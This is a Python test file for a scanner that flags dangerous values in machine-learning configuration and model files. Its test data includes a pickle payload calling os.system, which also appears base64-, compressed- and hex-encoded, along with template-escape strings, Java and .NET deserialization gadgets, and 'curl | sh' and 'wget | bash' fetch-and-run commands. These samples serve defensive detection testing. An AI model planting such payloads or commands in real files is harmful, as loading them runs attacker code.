"""Values of settings that say by themselves what they do, whatever their key."""

from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import pickle
import zlib

import pytest
from tests.engine.artifacts.configs.documents import rules

HOSTILE = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04echo\x94\x85\x94R\x94."
ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


@pytest.mark.parametrize(
    "text",
    [
        "__import__('os').system('echo')",
        "lambda x: __import__('os').system('echo')",
        "exec(\"print('echo')\")",
        "os.system('echo')",
        "subprocess.run(['echo'])",
        "relu if 1 else __import__('os')",
        "import os; os.system('echo')",
    ],
)
def test_a_value_that_is_python_code(text: str) -> None:
    assert rules({"model_type": "x", "hidden_act": text}, "config.json") == {
        "config.code-in-text": "high"
    }
    assert rules(f"hidden_act: {json.dumps(text)}\n", "hparams.yaml") == {
        "config.code-in-text": "high"
    }


@pytest.mark.parametrize(
    "text", ["gelu", "evaluate(x)", "see os.system() in the manual", "execute (fast)", "lambda"]
)
def test_plain_values(text: str) -> None:
    assert rules({"model_type": "x", "hidden_act": text}, "config.json") == {}


def test_prose_about_code() -> None:
    about = {"prompt": "os.system('ls') runs a program", "description": "curl x | sh installs it"}
    assert rules(about, "config.json") == {}


@pytest.mark.parametrize("key", ["loss_fn", "streaming_callback", "driver", "anything"])
def test_the_path_of_a_gadget_under_any_key(key: str) -> None:
    assert rules({"a": {key: "os.system"}}, "config.json") == {"name.known-gadget": "critical"}
    assert rules(f"a:\n  {key}: subprocess.Popen\n", "c.yaml") == {"name.known-gadget": "critical"}
    assert rules({"a": {key: "torch.nn.GELU"}}, "config.json") == {}


def test_gym_specs_name_what_they_call() -> None:
    spec = {"id": "X-v0", "entry_point": "os:system", "kwargs": {"command": "echo"}}
    assert rules(spec, "spec.json") == {"name.known-gadget": "critical"}
    spec["entry_point"] = "gymnasium.envs.classic_control:CartPoleEnv"
    assert rules(spec, "spec.json") == {}


def test_gluonts_makes_objects_by_their_path() -> None:
    node = {"__kind__": "instance", "class": "os.system", "args": ["echo"], "kwargs": {}}
    assert rules(node, "input_transform.json") == {"name.known-gadget": "critical"}
    node["class"] = "gluonts.transform.Chain"
    assert rules(node, "input_transform.json") == {}


def test_autogen_components_bring_source_code() -> None:
    tool = {
        "provider": "autogen_core.tools.FunctionTool",
        "component_type": "tool",
        "config": {"source_code": "def f():\n  pass", "global_imports": ["os"], "name": "f"},
    }
    assert rules(tool, "team.json") == {"config.evaluated": "high"}
    own = {"provider": "evil.tools.Tool", "component_type": "tool", "config": {}}
    assert rules(own, "team.json") == {"name.unknown-class": "medium"}


def test_agents_that_may_import_anything() -> None:
    agent = {"class": "CodeAgent", "authorized_imports": ["numpy", "os"]}
    assert rules(agent, "agent.json") == {"config.trusts-code": "medium"}
    assert rules({**agent, "authorized_imports": ["numpy", "math"]}, "agent.json") == {}


@pytest.mark.parametrize("key", ["system_prompt", "template", "html_template"])
def test_a_template_under_any_key_reaches_behind_objects(key: str) -> None:
    assert rules({"x": {key: ESCAPE}}, "agent.json")["template.object-internals"] == "critical"
    assert rules(f'{key}: "{ESCAPE}"\n', "prompts.yaml")["template.object-internals"] == "critical"
    assert rules({"x": {key: "{{ user.name }} has __init__.py"}}, "agent.json") == {}


def test_a_template_that_asks_for_a_shell() -> None:
    catalog = "sources:\n  x:\n    args: {urlpath: \"{{ shell('echo') }}\"}\n"
    assert rules(catalog, "catalog.yaml") == {"config.evaluated": "high"}


def test_commands_that_run_what_they_fetch() -> None:
    project = 'entry_points:\n  main:\n    command: "curl http://example.net/x | sh"\n'
    assert rules(project, "MLproject") == {"config.fetched-command": "high"}
    assert (
        rules(project.replace("curl http://example.net/x | sh", "python a.py"), "MLproject") == {}
    )
    stage = "stages:\n  a:\n    cmd: wget -O- http://example.net | bash\n"
    assert rules(stage, "dvc.yaml") == {"config.fetched-command": "high"}


@pytest.mark.parametrize(
    "document",
    [
        {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"},
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://example.net"},
    ],
)
def test_objects_of_other_languages(document: dict[str, object]) -> None:
    assert rules(document, "m.json") == {"config.foreign-object": "high"}
    assert rules({"@type": "schema.Dataset", "$type": "My.Model, Mine"}, "m.json") == {}


def test_functions_of_node_serialize() -> None:
    assert rules({"a": "_$$ND_FUNC$$_function(){}()"}, "m.json") == {"config.evaluated": "high"}


def test_hydra_targets_put_together_from_other_values() -> None:
    text = "a: os\nb: system\nmodel:\n  _target_: ${a}.${b}\n"
    assert rules(text, "c.yaml")["name.known-gadget"] == "critical"


def test_settings_in_toml() -> None:
    text = '[model]\n_target_ = "os.system"\ncommand = "echo"\n'
    assert rules(text, "config.toml") == {"name.known-gadget": "critical"}
    assert rules('[tool.ruff]\nline-length = 100\ntarget-version = "py311"\n', "x.toml") == {}


def test_json_in_utf16_without_an_ending() -> None:
    text = json.dumps({"auto_map": {"AutoModel": "evil/x--m.Net"}})
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        assert rules(text.encode(encoding), "config")["config.remote-code-elsewhere"] == "high"


def test_data_sets_whose_columns_are_pickles() -> None:
    shard = {"column_encodings": ["int", "pkl"], "raw_data": {"basename": "shard.0.mds"}}
    assert rules({"version": 2, "shards": [shard]}, "index.json") == {
        "config.pickle-beside": "medium"
    }
    shard = {"column_encodings": ["int"], "raw_data": {"basename": "../../x.mds"}}
    assert rules({"version": 2, "shards": [shard]}, "index.json") == {"config.path-outside": "high"}
    array = {"zarr_format": 2, "chunks": [1], "filters": [{"id": "pickle"}]}
    assert rules(array, ".zarray") == {"config.pickle-beside": "medium"}
    assert rules({**array, "filters": [{"id": "vlen-utf8"}]}, ".zarray") == {}


def test_keras_models_written_as_yaml() -> None:
    layer = "  - class_name: {name}\n    module: {module}\n    config: {{units: 1}}\n"
    model = "class_name: Sequential\nmodule: keras\nconfig:\n  layers:\n"
    honest = model + layer.format(name="Dense", module="keras.layers")
    assert rules(honest, "model.yaml") == {}
    hostile = model + layer.format(name="system", module="os")
    assert rules(hostile, "model.yaml")["name.known-gadget"] == "critical"
    code = model + "  - class_name: Lambda\n    config: {function: ['4wEAAAA=', null, null]}\n"
    assert rules(code, "model.yaml")["keras.lambda-code"] == "high"


def test_modular_pipelines_of_diffusers() -> None:
    index = {"_class_name": "Blocks", "_diffusers_version": "1", "unet": ["os", "system", {}]}
    assert rules(index, "modular_model_index.json") == {"name.known-gadget": "critical"}
    index["unet"] = ["diffusers", "UNet2DModel", {"repo": "a/b"}]
    assert rules(index, "modular_model_index.json") == {}


WRITTEN = {
    "base64": base64.b64encode(HOSTILE),
    "base64 of protocol 0": base64.b64encode(b"cposix\nsystem\n(S'echo'\ntR."),
    "base64 for addresses": base64.urlsafe_b64encode(HOSTILE),
    "zlib": base64.b64encode(zlib.compress(HOSTILE)),
    "zlib, fast": base64.b64encode(zlib.compress(HOSTILE, 1)),
    "zlib, best": base64.b64encode(zlib.compress(HOSTILE, 9)),
    "gzip": base64.b64encode(gzip.compress(HOSTILE)),
    "bzip2": base64.b64encode(bz2.compress(HOSTILE)),
    "xz": base64.b64encode(lzma.compress(HOSTILE)),
    "hexadecimal": HOSTILE.hex().encode(),
}


@pytest.mark.parametrize("form", WRITTEN)
def test_a_pickle_that_is_written_as_text(form: str) -> None:
    text = WRITTEN[form].decode()
    expected = {"name.known-gadget": "critical"}
    assert rules({"a": {"anything": text}}, "model.json") == expected
    assert rules({"a": [text]}, "model.json") == expected
    assert rules([text], "model.json") == expected
    assert rules(f'anything = "{text}"\n', "model.toml") == expected
    assert rules(f"<scheme><properties>\n{text}</properties></scheme>", "flow.ows") == expected
    assert rules(text + "\n", "model.txt") == expected


@pytest.mark.parametrize("form", ["base64", "zlib", "gzip", "base64 of protocol 0"])
def test_a_pickle_that_is_written_in_a_large_document(form: str) -> None:
    large: dict[str, object] = {f"word{number}": number for number in range(200_000)}
    document = {**large, "weights": WRITTEN[form].decode(), "end": 1}
    assert rules(document, "model.json") == {"name.known-gadget": "critical"}


def test_texts_that_only_begin_alike() -> None:
    honest = base64.b64encode(pickle.dumps({"a": [1, 2.5, "three"] * 20})).decode()
    packed = base64.b64encode(zlib.compress(b"plain words, nothing else " * 20)).decode()
    broken = WRITTEN["base64"].decode()[:30] + "!!!" + "A" * 40
    digest = "8004" + "0123456789abcdef" * 3
    for text in (honest, packed, broken, digest, "eJwords and more words than twenty-four", "H4sI"):
        assert rules({"a": text}, "model.json") == {}, text
        assert rules(text, "model.txt") == {}, text


def test_java_classes_in_other_forms() -> None:
    pair = ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://bench.invalid/x"}]
    assert rules({"a": pair}, "model.json") == {"config.foreign-object": "high"}
    assert rules(pair, "model.json") == {"config.foreign-object": "high"}
    assert rules(["java.util.ArrayList", [1, 2]], "model.json") == {}
    field = {"type": "string", "java-class": "javax.script.ScriptEngineManager"}
    schema = {"type": "record", "name": "r", "fields": [{"name": "a", "type": field}]}
    assert rules(schema, "rows.avsc") == {"document.avro-class": "high"}
    field["java-class"] = "java.util.UUID"
    assert rules(schema, "rows.avsc") == {}


def test_a_command_in_a_list() -> None:
    fetches = "build:\n  run:\n    - curl http://bench.invalid/x | sh\n"
    assert rules(fetches, "cog.yaml") == {"config.fetched-command": "high"}
    assert rules("build:\n  run:\n    - pip list | sort\n", "cog.yaml") == {}
